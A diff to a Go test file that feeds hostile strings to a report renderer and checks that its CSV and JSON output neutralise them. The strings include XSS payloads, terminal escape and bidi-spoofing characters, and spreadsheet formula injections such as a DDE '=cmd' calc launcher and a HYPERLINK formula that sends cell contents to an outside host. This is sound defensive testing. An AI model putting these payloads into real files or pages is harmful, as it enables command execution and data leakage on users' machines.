@@ -20,7 +20,7 @@ var hostile = []string{
 	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `&lt;b&gt; &amp;`,
 	"\x1b[2J\x1b[1;31mred\x1b[0m", "\x1b]8;;https://acme.example\a click\x1b]8;;\a", "\u009b2J", "a\bb\x7f",
 	"/\u202egnp.exe", "\u2066\u2069\u200f\u061c", "zero\u200bwidth\ufeff",
-	`=cmd|' /C calc'!A0`, `=HYPERLINK("https://acme.example?x="&A1)`, "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1",
+	`=cmd|' /C calc'!A0`, `=HYPERLINK("https://acme.example?x="&A1)`, "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", " =1+1", `"=1+1`, `/a;=cmd|' /C calc'!A0`, "/a; @SUM(A1)", "x\nsafe,src/main.ts,",
 	"tab\there", "new\nline", "carriage\rreturn", "\r\n\r\n", "line\u2028separator", "next\u0085line",
 	"| a | b |", `a\|b`, `\`, "`code`", "```\nfence", "[text](javascript:alert(1))", "![image](https://acme.example/x.png)", "# head", "**bold** _it_ ~~no~~", "<!-- -->",
 	"nul\x00byte", "\xff\xfe\xc3(", "half \xf0\x9f rune", "日本語", "e\u0301\u0302", "👩‍👩‍👧", "",
@@ -83,10 +83,18 @@ var columnsOf = map[string]int{"stats": 13, "unused": 6, "crossref": 3}
 // rowsOf are the rows of each view of the hostile Result.
 var rowsOf = map[string]int{"stats": 2 * len(hostile), "unused": 6 * len(hostile), "crossref": len(hostile)}
 
+// formula finds what a spreadsheet runs at the start of a cell, also of one that a semicolon starts.
+var formula = regexp.MustCompile(`(?:^|;)[\s"]*[=+\-@|]`)
+
 func TestHostileCSV(t *testing.T) {
 	r := resultOf(hostile)
 	for view := range views {
-		records, err := csv.NewReader(strings.NewReader(rendered(t, view, r, report.CSV))).ReadAll()
+		text := rendered(t, view, r, report.CSV)
+		if n := strings.Count(text, "\n"); n != 1+rowsOf[view] {
+			t.Errorf("%s: %d lines, want %d", view, n, 1+rowsOf[view])
+		}
+		noneHidden(t, view, text)
+		records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
 		if err != nil {
 			t.Errorf("%s: %v", view, err)
 			continue
@@ -99,7 +107,7 @@ func TestHostileCSV(t *testing.T) {
 				t.Errorf("%s: %d cells, want %d: %q", view, len(record), columnsOf[view], record)
 			}
 			for _, cell := range record {
-				if _, err := strconv.ParseFloat(cell, 64); err != nil && strings.IndexAny(cell, "=+-@\t\r\n") == 0 {
+				if _, err := strconv.ParseFloat(cell, 64); err != nil && formula.MatchString(cell) {
 					t.Errorf("%s: a spreadsheet runs %q", view, cell)
 				}
 			}
@@ -168,8 +176,21 @@ func TestHostileJSON(t *testing.T) {
 		}
 	}
 	for view := range views {
-		if !json.Valid([]byte(rendered(t, view, r, report.JSON))) {
+		text := rendered(t, view, r, report.JSON)
+		if !json.Valid([]byte(text)) {
 			t.Errorf("%s: not JSON", view)
+		}
+		noneHidden(t, view, text)
+	}
+}
+
+// noneHidden: text for other programs is looked at in terminals, too.
+func noneHidden(t *testing.T, view, text string) {
+	t.Helper()
+	for _, c := range text {
+		if c != '\n' && unicode.In(c, unicode.Cc, unicode.Bidi_Control, unicode.Zl, unicode.Zp) {
+			t.Errorf("%s: %U is written as it is", view, c)
+			return
 		}
 	}
 }
